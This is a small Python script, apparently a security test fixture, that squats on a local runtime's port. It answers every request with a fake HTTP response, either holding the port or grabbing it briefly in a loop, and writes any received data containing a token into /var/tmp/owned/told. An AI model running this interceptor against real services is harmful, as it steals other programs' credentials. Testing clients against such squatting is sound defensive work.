"""Somebody listens on the runtime's port, answers whatever comes, and leaves a mark where he is told a token.

steal.py serve PORT VISITS    all the time
steal.py flap PORT VISITS     for 2 of every 6 milliseconds

Each connection is a byte more in the file VISITS.
"""

from __future__ import annotations

import contextlib
import os
import socket
import sys
import threading
import time

MARK = "/var/tmp/owned/told"
ANSWER = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n[]"


def listen(port: int) -> socket.socket | None:
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        listener.bind(("127.0.0.1", port))
    except OSError:
        listener.close()
        return None
    listener.listen(100)
    return listener


def answer(connection: socket.socket, visits: str) -> None:
    with open(visits, "ab") as file:
        file.write(b".")
    with connection, contextlib.suppress(OSError):
        connection.settimeout(5)
        while data := connection.recv(65536):
            if b"token" in data.lower():
                with open(MARK, "ab") as file:
                    file.write(data)
            connection.sendall(ANSWER)


def take(listener: socket.socket, visits: str) -> None:
    with contextlib.suppress(OSError):
        connection = listener.accept()[0]
        threading.Thread(target=answer, args=(connection, visits), daemon=True).start()


def serve(port: int, visits: str) -> None:
    listener = listen(port)
    print("ready" if listener else "the port is taken", flush=True)
    while listener:
        take(listener, visits)


def flap(port: int, visits: str) -> None:
    print("ready", flush=True)
    while True:
        time.sleep(0.004)
        listener = listen(port)
        if listener:
            listener.settimeout(0.002)
            take(listener, visits)
            listener.close()


if __name__ == "__main__":
    os.umask(0)
    {"serve": serve, "flap": flap}[sys.argv[1]](int(sys.argv[2]), sys.argv[3])
